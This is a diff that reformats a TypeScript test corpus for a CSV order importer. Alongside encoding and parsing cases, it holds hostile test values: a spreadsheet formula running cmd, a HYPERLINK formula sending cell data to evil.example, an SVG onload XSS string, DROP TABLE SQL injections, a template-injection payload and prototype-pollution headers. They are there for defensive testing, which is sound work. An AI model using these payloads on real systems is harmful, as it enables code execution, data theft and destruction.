@@ -10,18 +10,45 @@ type Row = Record<string, string>;
 
 /** A clean order row of the full header; cases override single fields. */
 export const BASE: Row = {
-  order_number: 'H-1', channel: 'Shopify', order_date: '2026-11-03', consignee_name: 'Emily Carter', consignee_company: '',
-  address1: '742 Evergreen Terrace', address2: '', city: 'Springfield', state: 'IL', postal_code: '62704', country: 'US',
-  phone: '+1 217 555 0142', email: 'emily.carter@example.com', tax_id: '', shipping_method: 'express', currency: 'USD', incoterm: 'DAP',
-  order_total: '', sku: 'XM-BUDS5', description: 'Wireless earbuds', brand: 'Xiaomi', model: 'Redmi Buds 5', quantity: '1', unit: 'PCE',
-  unit_price: '29.99', hs_code: '851830', origin_country: 'CN',
+  order_number: 'H-1',
+  channel: 'Shopify',
+  order_date: '2026-11-03',
+  consignee_name: 'Emily Carter',
+  consignee_company: '',
+  address1: '742 Evergreen Terrace',
+  address2: '',
+  city: 'Springfield',
+  state: 'IL',
+  postal_code: '62704',
+  country: 'US',
+  phone: '+1 217 555 0142',
+  email: 'emily.carter@example.com',
+  tax_id: '',
+  shipping_method: 'express',
+  currency: 'USD',
+  incoterm: 'DAP',
+  order_total: '',
+  sku: 'XM-BUDS5',
+  description: 'Wireless earbuds',
+  brand: 'Xiaomi',
+  model: 'Redmi Buds 5',
+  quantity: '1',
+  unit: 'PCE',
+  unit_price: '29.99',
+  hs_code: '851830',
+  origin_country: 'CN',
 };
 
 const FIELDS = FULL_HEADER.split(',');
 
 /** CSV text of full-header rows, quoted where needed, CRLF as Excel writes it. */
 function fullCsv(rows: Row[], opts: { delimiter?: string; newline?: string } = {}): string {
-  return Papa.unparse({ fields: FIELDS, data: rows.map((r) => FIELDS.map((f) => ({ ...BASE, ...r })[f] ?? '')) }, { delimiter: opts.delimiter ?? ',', newline: opts.newline ?? '\r\n' }) + (opts.newline ?? '\r\n');
+  return (
+    Papa.unparse(
+      { fields: FIELDS, data: rows.map((r) => FIELDS.map((f) => ({ ...BASE, ...r })[f] ?? '')) },
+      { delimiter: opts.delimiter ?? ',', newline: opts.newline ?? '\r\n' },
+    ) + (opts.newline ?? '\r\n')
+  );
 }
 
 const utf8 = (text: string) => new TextEncoder().encode(text);
@@ -65,7 +92,14 @@ export const CORPUS: CorpusCase[] = [
     bytes: () =>
       utf8(
         fullCsv([
-          { order_number: 'F-1', description: "=cmd|' /C calc'!A0", brand: '+1+1', model: '-2+3', sku: '@SUM(1)', consignee_company: '=HYPERLINK("http://evil.example/?"&A1,"click")' },
+          {
+            order_number: 'F-1',
+            description: "=cmd|' /C calc'!A0",
+            brand: '+1+1',
+            model: '-2+3',
+            sku: '@SUM(1)',
+            consignee_company: '=HYPERLINK("http://evil.example/?"&A1,"click")',
+          },
           { order_number: 'F-2', description: '\t=1+1', brand: '\r=2+2', address2: '-3+3' },
           { order_number: 'F-3', description: '=1+1\nsecond line', address1: '@A1', city: '+Springfield' },
         ]),
@@ -74,7 +108,13 @@ export const CORPUS: CorpusCase[] = [
     preview: { rowCount: 3, counts: { new: 3, existing: 0, conflict: 0, invalid: 0 }, errors: [] },
     commit: { created: 3 },
     stored: {
-      'F-1': { 'lines.0.description': "=cmd|' /C calc'!A0", 'lines.0.brand': '+1+1', 'lines.0.model': '-2+3', 'lines.0.sku': '@SUM(1)', 'consignee.company': '=HYPERLINK("http://evil.example/?"&A1,"click")' },
+      'F-1': {
+        'lines.0.description': "=cmd|' /C calc'!A0",
+        'lines.0.brand': '+1+1',
+        'lines.0.model': '-2+3',
+        'lines.0.sku': '@SUM(1)',
+        'consignee.company': '=HYPERLINK("http://evil.example/?"&A1,"click")',
+      },
       // Leading tab/CR are whitespace and trimmed like any other; what is left is stored as text.
       'F-2': { 'lines.0.description': '=1+1', 'lines.0.brand': '=2+2', 'consignee.address2': '-3+3' },
       'F-3': { 'lines.0.description': '=1+1\nsecond line', 'consignee.address1': '@A1', 'consignee.city': '+Springfield' },
@@ -83,7 +123,8 @@ export const CORPUS: CorpusCase[] = [
   {
     file: 'proto-headers.csv',
     about: '__proto__, constructor, prototype, toString, hasOwnProperty as extra column headers',
-    bytes: () => utf8(`__proto__,constructor,prototype,toString,hasOwnProperty,${SMALL_HEADER}\r\n"{""polluted"":1}",x,y,z,w,P-1,Ann Lee,US,USD,1,2.00,mug\r\n`),
+    bytes: () =>
+      utf8(`__proto__,constructor,prototype,toString,hasOwnProperty,${SMALL_HEADER}\r\n"{""polluted"":1}",x,y,z,w,P-1,Ann Lee,US,USD,1,2.00,mug\r\n`),
     decoded: { encoding: 'utf-8' },
     preview: { rowCount: 1, counts: { new: 1, existing: 0, conflict: 0, invalid: 0 }, errors: [] },
     commit: { created: 1 },
@@ -94,7 +135,14 @@ export const CORPUS: CorpusCase[] = [
     about: 'Only prototype-ish headers, mapped by hand onto the six required fields',
     bytes: () => utf8('__proto__,constructor,prototype,toString,valueOf,hasOwnProperty\r\nPM-1,Ann Lee,US,USD,2,3.25\r\n'),
     decoded: { encoding: 'utf-8' },
-    mapping: { orderNumber: '__proto__', consigneeName: 'constructor', country: 'prototype', currency: 'toString', quantity: 'valueOf', unitPrice: 'hasOwnProperty' },
+    mapping: {
+      orderNumber: '__proto__',
+      consigneeName: 'constructor',
+      country: 'prototype',
+      currency: 'toString',
+      quantity: 'valueOf',
+      unitPrice: 'hasOwnProperty',
+    },
     preview: { rowCount: 1, missingFields: [], counts: { new: 1, existing: 0, conflict: 0, invalid: 0 }, errors: [] },
     commit: { created: 1 },
     stored: { 'PM-1': { 'consignee.name': 'Ann Lee', 'lines.0.quantity': '2', 'lines.0.unitPrice': '3.25' } },
@@ -106,11 +154,28 @@ export const CORPUS: CorpusCase[] = [
       utf8(
         fullCsv([
           {
-            order_number: XSS[0]!, channel: XSS[1]!.slice(0, 60), consignee_name: XSS[2]!, consignee_company: XSS[1]!, address1: XSS[0]!, address2: XSS[2]!,
-            city: XSS[1]!, state: XSS[0]!, postal_code: '"><svg onload=1>', phone: XSS[1]!, tax_id: XSS[0]!, sku: XSS[1]!, description: XSS.join(' '),
-            brand: XSS[2]!, model: XSS[0]!,
+            order_number: XSS[0]!,
+            channel: XSS[1]!.slice(0, 60),
+            consignee_name: XSS[2]!,
+            consignee_company: XSS[1]!,
+            address1: XSS[0]!,
+            address2: XSS[2]!,
+            city: XSS[1]!,
+            state: XSS[0]!,
+            postal_code: '"><svg onload=1>',
+            phone: XSS[1]!,
+            tax_id: XSS[0]!,
+            sku: XSS[1]!,
+            description: XSS.join(' '),
+            brand: XSS[2]!,
+            model: XSS[0]!,
           },
-          { order_number: "M-2'; DROP TABLE orders; --", consignee_name: "Robert'); DROP TABLE orders;--", description: '{{constructor.constructor("alert(1)")()}}', brand: '${7*7}' },
+          {
+            order_number: "M-2'; DROP TABLE orders; --",
+            consignee_name: "Robert'); DROP TABLE orders;--",
+            description: '{{constructor.constructor("alert(1)")()}}',
+            brand: '${7*7}',
+          },
         ]),
       ),
     decoded: { encoding: 'utf-8' },
@@ -118,11 +183,26 @@ export const CORPUS: CorpusCase[] = [
     commit: { created: 2 },
     stored: {
       [XSS[0]!]: {
-        channel: XSS[1]!, 'consignee.name': XSS[2]!, 'consignee.company': XSS[1]!, 'consignee.address1': XSS[0]!, 'consignee.address2': XSS[2]!,
-        'consignee.city': XSS[1]!, 'consignee.state': XSS[0]!, 'consignee.postalCode': '"><svg onload=1>', 'consignee.phone': XSS[1]!,
-        'consignee.taxId': XSS[0]!, 'lines.0.sku': XSS[1]!, 'lines.0.description': XSS.join(' '), 'lines.0.brand': XSS[2]!, 'lines.0.model': XSS[0]!,
+        channel: XSS[1]!,
+        'consignee.name': XSS[2]!,
+        'consignee.company': XSS[1]!,
+        'consignee.address1': XSS[0]!,
+        'consignee.address2': XSS[2]!,
+        'consignee.city': XSS[1]!,
+        'consignee.state': XSS[0]!,
+        'consignee.postalCode': '"><svg onload=1>',
+        'consignee.phone': XSS[1]!,
+        'consignee.taxId': XSS[0]!,
+        'lines.0.sku': XSS[1]!,
+        'lines.0.description': XSS.join(' '),
+        'lines.0.brand': XSS[2]!,
+        'lines.0.model': XSS[0]!,
       },
-      "M-2'; DROP TABLE orders; --": { 'consignee.name': "Robert'); DROP TABLE orders;--", 'lines.0.description': '{{constructor.constructor("alert(1)")()}}', 'lines.0.brand': '${7*7}' },
+      "M-2'; DROP TABLE orders; --": {
+        'consignee.name': "Robert'); DROP TABLE orders;--",
+        'lines.0.description': '{{constructor.constructor("alert(1)")()}}',
+        'lines.0.brand': '${7*7}',
+      },
     },
   },
   {
@@ -170,10 +250,20 @@ export const CORPUS: CorpusCase[] = [
         ]),
       ),
     decoded: { encoding: 'utf-8' },
-    preview: { rowCount: 4, counts: { new: 2, existing: 0, conflict: 0, invalid: 2 }, errors: [[2, 'validation.controlChars', 'consigneeName'], [3, 'validation.controlChars', 'city']] },
+    preview: {
+      rowCount: 4,
+      counts: { new: 2, existing: 0, conflict: 0, invalid: 2 },
+      errors: [
+        [2, 'validation.controlChars', 'consigneeName'],
+        [3, 'validation.controlChars', 'city'],
+      ],
+    },
     commit: { refused: 'errors.importHasErrors' },
     onlyValid: { created: 2, rejected: 2 },
-    stored: { 'B-3': { 'lines.0.description': 'first\u2028second\u2029third' }, 'B-4': { 'consignee.name': 'محمد\u200F علي', 'consignee.address1': 'שדרות רוטשילד 1' } },
+    stored: {
+      'B-3': { 'lines.0.description': 'first\u2028second\u2029third' },
+      'B-4': { 'consignee.name': 'محمد\u200F علي', 'consignee.address1': 'שדרות רוטשילד 1' },
+    },
   },
   {
     file: 'utf8-invalid.csv',
@@ -192,14 +282,27 @@ export const CORPUS: CorpusCase[] = [
       return b;
     },
     decoded: { encoding: 'utf-8', warning: 'import.badEncoding' },
-    preview: { rowCount: 2, counts: { new: 1, existing: 0, conflict: 0, invalid: 1 }, errors: [[3, 'import.badEncoding'], [3, 'import.rowUnreadable']] },
+    preview: {
+      rowCount: 2,
+      counts: { new: 1, existing: 0, conflict: 0, invalid: 1 },
+      errors: [
+        [3, 'import.badEncoding'],
+        [3, 'import.rowUnreadable'],
+      ],
+    },
     commit: { refused: 'errors.importHasErrors' },
     onlyValid: { created: 1, rejected: 1 },
   },
   {
     file: 'utf16le-bom.csv',
     about: 'UTF-16 LE with BOM, tab-separated (Excel "Unicode text")',
-    bytes: () => utf16(fullCsv([{ order_number: 'W-1', city: 'München', consignee_name: 'Zoë Ångström', description: 'Mug 😀' }, { order_number: 'W-2' }], { delimiter: '\t' }), 'le'),
+    bytes: () =>
+      utf16(
+        fullCsv([{ order_number: 'W-1', city: 'München', consignee_name: 'Zoë Ångström', description: 'Mug 😀' }, { order_number: 'W-2' }], {
+          delimiter: '\t',
+        }),
+        'le',
+      ),
     decoded: { encoding: 'utf-16le' },
     preview: { rowCount: 2, counts: { new: 2, existing: 0, conflict: 0, invalid: 0 }, errors: [] },
     commit: { created: 2 },
@@ -223,7 +326,17 @@ export const CORPUS: CorpusCase[] = [
       cp1252(
         fullCsv(
           [
-            { order_number: 'L-1', city: 'München', consignee_name: 'Zoë Ångström', description: 'Tasse, 5 €', currency: 'EUR', unit_price: '12,50', country: 'DE', postal_code: '80331', state: 'BY' },
+            {
+              order_number: 'L-1',
+              city: 'München',
+              consignee_name: 'Zoë Ångström',
+              description: 'Tasse, 5 €',
+              currency: 'EUR',
+              unit_price: '12,50',
+              country: 'DE',
+              postal_code: '80331',
+              state: 'BY',
+            },
             { order_number: 'L-2', currency: 'EUR', unit_price: '1.234,50' },
           ],
           { delimiter: ';' },
@@ -232,7 +345,10 @@ export const CORPUS: CorpusCase[] = [
     decoded: { encoding: 'windows-1252', warning: 'import.legacyEncoding' },
     preview: { rowCount: 2, counts: { new: 2, existing: 0, conflict: 0, invalid: 0 }, errors: [] },
     commit: { created: 2 },
-    stored: { 'L-1': { 'consignee.city': 'München', 'consignee.name': 'Zoë Ångström', 'lines.0.description': 'Tasse, 5 €', 'lines.0.unitPrice': '12.50' }, 'L-2': { 'lines.0.unitPrice': '1234.50' } },
+    stored: {
+      'L-1': { 'consignee.city': 'München', 'consignee.name': 'Zoë Ångström', 'lines.0.description': 'Tasse, 5 €', 'lines.0.unitPrice': '12.50' },
+      'L-2': { 'lines.0.unitPrice': '1234.50' },
+    },
     asUtf8: { refused: ['errors.importHasErrors'] },
   },
   {
@@ -278,10 +394,18 @@ export const CORPUS: CorpusCase[] = [
   {
     file: 'unclosed-quote.csv',
     about: 'A quoted field never closed (after a blank line), swallowing the rows after it',
-    bytes: () => utf8(`${SMALL_HEADER}\r\nQ-1,Ann Lee,US,USD,1,2.00,fine\r\n\r\nQ-2,Bob Lee,US,USD,1,2.00,"never closed\r\nQ-3,Cy Lee,US,USD,1,2.00,swallowed\r\n`),
+    bytes: () =>
+      utf8(`${SMALL_HEADER}\r\nQ-1,Ann Lee,US,USD,1,2.00,fine\r\n\r\nQ-2,Bob Lee,US,USD,1,2.00,"never closed\r\nQ-3,Cy Lee,US,USD,1,2.00,swallowed\r\n`),
     decoded: { encoding: 'utf-8' },
     // Row 4: the blank row 3 counts, as in a spreadsheet. Q-3 is inside Q-2's open quote.
-    preview: { rowCount: 2, counts: { new: 1, existing: 0, conflict: 0, invalid: 1 }, errors: [[4, 'import.csvSyntax'], [4, 'import.rowUnreadable']] },
+    preview: {
+      rowCount: 2,
+      counts: { new: 1, existing: 0, conflict: 0, invalid: 1 },
+      errors: [
+        [4, 'import.csvSyntax'],
+        [4, 'import.rowUnreadable'],
+      ],
+    },
     commit: { refused: 'errors.importHasErrors' },
     onlyValid: { created: 1, rejected: 1 },
   },
@@ -290,7 +414,15 @@ export const CORPUS: CorpusCase[] = [
     about: 'A quote inside an unquoted field (kept as text) and text after a closing quote (refused)',
     bytes: () => utf8(`${SMALL_HEADER}\r\nS-1,Ann "the" Lee,US,USD,1,2.00,fine\r\nS-2,Bob,US,USD,1,2.00,"abc"def\r\n`),
     decoded: { encoding: 'utf-8' },
-    preview: { rowCount: 2, counts: { new: 1, existing: 0, conflict: 0, invalid: 1 }, errors: [[3, 'import.csvSyntax'], [3, 'import.csvSyntax'], [3, 'import.rowUnreadable']] },
+    preview: {
+      rowCount: 2,
+      counts: { new: 1, existing: 0, conflict: 0, invalid: 1 },
+      errors: [
+        [3, 'import.csvSyntax'],
+        [3, 'import.csvSyntax'],
+        [3, 'import.rowUnreadable'],
+      ],
+    },
     commit: { refused: 'errors.importHasErrors' },
     onlyValid: { created: 1, rejected: 1 },
     stored: { 'S-1': { 'consignee.name': 'Ann "the" Lee' } },
@@ -298,7 +430,10 @@ export const CORPUS: CorpusCase[] = [
   {
     file: 'mixed-line-endings.csv',
     about: 'Rows ending in CRLF, LF and CR in one file, and a CRLF inside a quoted cell',
-    bytes: () => utf8(`${SMALL_HEADER}\r\nE-1,Ann Lee,US,USD,1,2.00,"line 1\r\nline 2"\nE-2,Bob Lee,US,USD,1,2.00,lf\rE-3,Cy Lee,US,USD,1,2.00,cr\r\nE-4,Di Lee,US,USD,1,2.00,crlf\n`),
+    bytes: () =>
+      utf8(
+        `${SMALL_HEADER}\r\nE-1,Ann Lee,US,USD,1,2.00,"line 1\r\nline 2"\nE-2,Bob Lee,US,USD,1,2.00,lf\rE-3,Cy Lee,US,USD,1,2.00,cr\r\nE-4,Di Lee,US,USD,1,2.00,crlf\n`,
+      ),
     decoded: { encoding: 'utf-8' },
     preview: { rowCount: 4, counts: { new: 4, existing: 0, conflict: 0, invalid: 0 }, errors: [] },
     commit: { created: 4 },
@@ -359,7 +494,12 @@ export const CORPUS: CorpusCase[] = [
     },
     commit: { refused: 'errors.importHasErrors' },
     onlyValid: { created: 4, rejected: 16 },
-    stored: { 'N-17': { 'lines.0.unitPrice': '999999999999999', 'lines.0.quantity': '1000' }, 'N-18': { 'lines.0.quantity': '0' }, 'N-19': { 'lines.0.unitPrice': '1234.50' }, 'N-20': { 'lines.0.unitPrice': '7' } },
+    stored: {
+      'N-17': { 'lines.0.unitPrice': '999999999999999', 'lines.0.quantity': '1000' },
+      'N-18': { 'lines.0.quantity': '0' },
+      'N-19': { 'lines.0.unitPrice': '1234.50' },
+      'N-20': { 'lines.0.unitPrice': '7' },
+    },
   },
   {
     file: 'ambiguous-thousands.csv',
@@ -376,7 +516,15 @@ export const CORPUS: CorpusCase[] = [
         ),
       ),
     decoded: { encoding: 'utf-8' },
-    preview: { rowCount: 3, counts: { new: 1, existing: 0, conflict: 0, invalid: 2 }, errors: [[2, 'import.ambiguousNumber', 'quantity'], [3, 'import.ambiguousNumber', 'unitPrice'], [3, 'validation.priceDigits', 'unitPrice']] },
+    preview: {
+      rowCount: 3,
+      counts: { new: 1, existing: 0, conflict: 0, invalid: 2 },
+      errors: [
+        [2, 'import.ambiguousNumber', 'quantity'],
+        [3, 'import.ambiguousNumber', 'unitPrice'],
+        [3, 'validation.priceDigits', 'unitPrice'],
+      ],
+    },
     commit: { refused: 'errors.importHasErrors' },
     onlyValid: { created: 1, rejected: 2 },
     stored: { 'T-3': { 'lines.0.quantity': '0.500', 'lines.0.unitPrice': '1299.00', declaredTotal: '649.50' } },
